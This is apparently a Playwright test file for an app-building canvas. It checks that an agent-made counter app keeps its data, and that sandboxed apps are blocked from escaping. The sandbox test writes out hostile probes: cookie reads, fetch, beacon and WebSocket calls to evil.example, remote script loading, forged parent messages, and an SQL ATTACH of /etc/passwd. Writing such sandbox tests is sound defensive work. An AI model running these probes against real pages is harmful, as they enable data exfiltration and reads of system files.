import { post, withApp } from '../support/factors';
import { expect, test } from '../support/test';

const file = (path: string, text: string) => ({ path, text });

const TALLY = [
  file(
    'index.html',
    `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width"><title>Tally</title>
<link rel="stylesheet" href="look/style.css"><h1>Tally</h1><button>Count</button> <output>…</output>
<script src="alumia.js"></script><script type="module" src="main.mjs"></script></html>`,
  ),
  file('look/style.css', ':root { color-scheme: light dark; font-family: sans-serif } output { font-size: 2rem }'),
  file('lib/store.mjs', `export const count = async () => (await alumia.query('SELECT count(*) FROM clicks')).rows[0][0];`),
  file(
    'main.mjs',
    `import { count } from './lib/store.mjs';
await alumia.execute('CREATE TABLE IF NOT EXISTS clicks (at)');
const show = async () => (document.querySelector('output').textContent = await count());
document.querySelector('button').onclick = async () => {
  await alumia.execute('INSERT INTO clicks VALUES (?1)', [Date.now()]);
  await show();
};
await show();`,
  ),
];

test('an agent makes an app that keeps its data, changes it, and a reload loses nothing', async ({ lab, page, narrow }) => {
  const done = async (count: number) => {
    await expect(lab.calls).toHaveCount(count, { timeout: 20_000 });
    await expect(lab.calls.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });
    await lab.settled();
  };
  await lab.say(`call app_create ${JSON.stringify({ title: 'Tally', files: TALLY })}`);
  await done(1);
  await lab.showCanvas();
  await lab.fit();
  const block = lab.block('Tally');
  const app = block.frameLocator('iframe');
  await expect(app.locator('output')).toHaveText('0');
  // A block's content answers once it is selected, and large enough to be read.
  await lab.canvas.focus();
  await page.keyboard.press('f');
  await page.getByRole('combobox', { name: 'Find a node' }).fill('Tally');
  await page.getByRole('option', { name: 'Tally', exact: true }).click();
  await expect(block).toHaveAttribute('data-mark', 'solo');
  for (let count = 0; count < 2; count++) await app.getByRole('button', { name: 'Count' }).click();
  await expect(app.locator('output')).toHaveText('2');
  expect(await app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('32px');
  const shot = (name: string) =>
    page.screenshot({ path: `test-results/shots/apps-${name}-${narrow ? 'phone' : 'desktop'}.png` });
  await shot('made');
  await page.reload();
  await lab.ready();
  await lab.showCanvas();
  await lab.fit();
  await expect(app.locator('output')).toHaveText('2');

  const [{ id }] = (await lab.api('GET', `/projects/${await lab.project()}/blocks`)).items.filter((it: any) => it.title === 'Tally');
  await lab.showChat();
  const files = [file('look/style.css', 'output { font-size: 3rem }')];
  await lab.say(`call update_block ${JSON.stringify({ blockId: id, files })}`);
  await done(2);
  await lab.showCanvas();
  await lab.fit();
  await expect.poll(() => app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('48px');
  await expect(app.locator('output')).toHaveText('2');
  await expect(block.locator('iframe')).toHaveAttribute('title', 'Tally');
  await page.emulateMedia({ colorScheme: 'dark' });
  await shot('dark');
});

test.describe('what an app may not', () => {
  // The browser says of each thing that it was stopped.
  test.use({ mayFail: true, hostile: true });

  test('reach the page, the network, cookies, or anything but its own data', async ({ lab, page }) => {
    const gone: string[] = [];
    // Also what the content policy stopped is told as a request, and then as one that failed by it.
    page.on('requestfailed', (request) => {
      const away = new URL(request.url()).hostname !== 'localhost';
      if (away && !/csp/i.test(request.failure()?.errorText ?? '')) gone.push(request.url());
    });
    page.on('response', (response) => {
      if (new URL(response.url()).hostname !== 'localhost') gone.push(response.url());
    });
    const evil = 'https://evil.example';
    const tries: Record<string, string> = {
      cookie: 'document.cookie',
      parent: 'parent.document.title',
      top: `top.location = '${evil}/top', await wait(), 'left'`,
      storage: 'localStorage.x = 1',
      fetch: `(await fetch('${evil}/fetch')).status`,
      api: `(await fetch('/api/v1/me', { credentials: 'include' })).status`,
      beacon: `navigator.sendBeacon('${evil}/beacon') && (await wait(), 'sent')`,
      image: `await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = no; i.src = '${evil}/image.png'; })`,
      script: `await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('ran'); s.onerror = no; s.src = '${evil}/x.js'; document.head.append(s); })`,
      own: `await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('ran'); s.onerror = no; s.src = '/pkg/alumia.js'; document.head.append(s); })`,
      socket: `await new Promise((ok, no) => { const s = new WebSocket('wss://evil.example/'); s.onopen = ok; s.onerror = no; })`,
      popup: `String(window.open('${evil}/popup') ?? (() => { throw 0 })())`,
      worker: `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => ok('works'); w.onerror = no; })`,
      frame: `await new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = '${evil}/frame'; f.onload = () => no(); document.body.append(f); setTimeout(no, 300); })`,
      eval: "eval('1')",
      peer: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createDataChannel('x').label",
      attach: "(await alumia.execute(\"ATTACH '/etc/passwd' AS p\")).changes + ''",
      forged: `await new Promise((ok, no) => { parent.postMessage({ alumia: 99, kind: 'delete', sql: 'x' }, '*'); addEventListener('message', (e) => e.data.alumia === 99 && ok(e.data)); setTimeout(no, 300); })`,
    };
    const script = `const wait = () => new Promise((ok) => setTimeout(ok, 300));
const out = {};
${Object.entries(tries).map(([name, code]) => `try { out.${name} = await (async () => (${code}))(); } catch { out.${name} = 'refused'; }`).join('\n')}
document.body.dataset.out = JSON.stringify(out);`;
    const files = [
      file('index.html', '<!doctype html><link rel="dns-prefetch" href="//evil.example"><body><script src="alumia.js"></script><script type="module" src="try.js"></script>'),
      file('try.js', script),
    ];
    await lab.put('Evil', { kind: 'app', data: { files } }, { x: 0, y: 0, width: 400, height: 300 });
    await lab.showCanvas();
    await lab.fit();
    const body = lab.block('Evil').frameLocator('iframe').locator('body');
    await expect(body).toHaveAttribute('data-out', /./, { timeout: 20_000 });
    const out = JSON.parse((await body.getAttribute('data-out'))!);
    const refused = Object.fromEntries(Object.keys(tries).map((name) => [name, 'refused']));
    expect(out).toEqual({ ...refused, beacon: out.beacon });
    expect(gone).toEqual([]);

    // Leading itself away is what the page's own policy stops.
    const away = [file('index.html', `<!doctype html><script>location = '${evil}/away?secret'</script>`)];
    await lab.put('Away', { kind: 'app', data: { files: away } }, { x: 500, y: 0, width: 400, height: 300 });
    await expect(lab.block('Away')).toBeVisible();
    await page.waitForTimeout(1500);
    expect(gone).toEqual([]);
    expect(new URL(page.url()).hostname).toBe('localhost');
  });
});

test('whoever has a share link sees the app without its data, and no frame opens outside of a page', async ({
  lab,
  page,
  person,
  server,
  browser,
}) => {
  await withApp(page.request, server.url, person);
  const project = await lab.project();
  const { id } = await lab.put('Tally', { kind: 'app', data: { files: TALLY } }, { x: 0, y: 0, width: 400, height: 300 });
  const made = await post(page.request, server.url, `/projects/${project}/share`, {});
  expect(made.status(), await made.text()).toBe(201);
  const context = await browser.newContext({ viewport: page.viewportSize() });
  const viewer = await context.newPage();
  await viewer.goto((await made.json()).data.url);
  const app = viewer.frameLocator('iframe');
  await expect(app.getByRole('heading', { name: 'Tally' })).toBeVisible();
  await expect(app.locator('output')).toHaveText('…');
  await context.close();

  const frame = await lab.api('POST', `/blocks/${id}/frame`);
  // As a page of its own it could lead itself anywhere.
  const alone = await page.context().newPage();
  expect((await alone.goto(server.url + frame.url))!.status()).toBe(403);
  await alone.close();
  expect((await page.request.get(`${server.url}/apps/wrong/index.html`)).status()).toBe(404);
});
